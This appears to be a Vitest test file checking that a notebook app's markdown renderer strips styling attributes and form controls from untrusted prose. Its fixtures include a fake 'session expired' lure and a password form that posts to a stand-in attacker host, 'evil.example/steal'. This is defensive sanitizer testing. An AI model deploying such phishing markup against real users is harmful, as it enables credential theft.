// @vitest-environment jsdom
/**
 * Prose in a notebook someone sent you (issue 14, finding 10): besides running no script, it
 * must not be able to dress up as the app — no class, id or style to borrow the app's own
 * look (the full-screen drop overlay), and no form controls to ask for a password.
 */
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/ui/markdown.ts';

function render(markdown: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(markdown);
  return div;
}

describe('renderMarkdown: prose cannot take over the page', () => {
  it("drops class, id and style, so prose cannot draw the app's overlay", () => {
    const prose = render(
      [
        '<div class="drop-hint" id="app" style="position:fixed;inset:0">Your session expired.',
        'Sign in again below.</div>',
        '',
        '<span class="drop-hint">x</span> <p id="cell-x" style="color:red">y</p>',
      ].join('\n'),
    );
    expect(prose.querySelector('.drop-hint')).toBeNull();
    expect(prose.querySelectorAll('[class], [id], [style]').length).toBe(0);
    // The words themselves stay, as ordinary prose.
    expect(prose.textContent).toContain('Your session expired.');
  });

  it('drops form controls: no password field, button, text area, list or form', () => {
    const prose = render(
      [
        '<form action="https://evil.example/steal"><label>Password',
        '<input type="password" name="pw"></label>',
        '<input type=text autofocus><button type="submit">Sign in</button>',
        '<textarea>notes</textarea><select><option>a</option><optgroup label="g"></optgroup>',
        '</select><fieldset><legend>l</legend></fieldset><output>o</output>',
        '<datalist><option>d</option></datalist><dialog open>modal</dialog></form>',
      ].join('\n'),
    );
    const controls =
      'form, input, button, textarea, select, option, optgroup, fieldset, legend, label, ' +
      'output, datalist, dialog';
    expect([...prose.querySelectorAll(controls)].map((el) => el.tagName)).toEqual([]);
  });

  it('drops data- attributes and popovers, which the app and its tests read', () => {
    const prose = render('<p data-state="ready" data-testid="run-all" popover tabindex="1">p</p>');
    expect(prose.querySelector('p')?.attributes.length).toBe(0);
  });

  it('keeps what prose is for: headings, emphasis, links, lists, tables, code, quotes', () => {
    const prose = render(
      [
        '# Title',
        '',
        'Some *emphasis*, **strong**, `code` and a [link](https://example.org/data "The data").',
        '',
        '- one',
        '- [x] done',
        '',
        '1. first',
        '',
        '| a | b |',
        '|---|--:|',
        '| 1 | 2 |',
        '',
        '```python',
        'print("not a cell")',
        '```',
        '',
        '> quoted',
        '',
        '<details><summary>More</summary>Hidden <sup>1</sup> <abbr title="x">y</abbr></details>',
      ].join('\n'),
    );
    const tags = new Set([...prose.querySelectorAll('*')].map((el) => el.localName));
    for (const tag of ['h1', 'em', 'strong', 'code', 'a', 'ul', 'ol', 'li', 'table', 'th', 'td']) {
      expect(tags, tag).toContain(tag);
    }
    for (const tag of ['pre', 'blockquote', 'details', 'summary', 'sup', 'abbr']) {
      expect(tags, tag).toContain(tag);
    }
    const link = prose.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/data');
    expect(link?.getAttribute('title')).toBe('The data');
    expect(prose.querySelector('td[align="right"], td[style]')).not.toBeNull();
    expect(prose.querySelector('pre code')?.textContent).toBe('print("not a cell")\n');
    // A task list's box is drawn as a character, not as a form control.
    expect(prose.querySelector('li:nth-child(2)')?.textContent).toMatch(/^☑\s*done$/);
  });
});
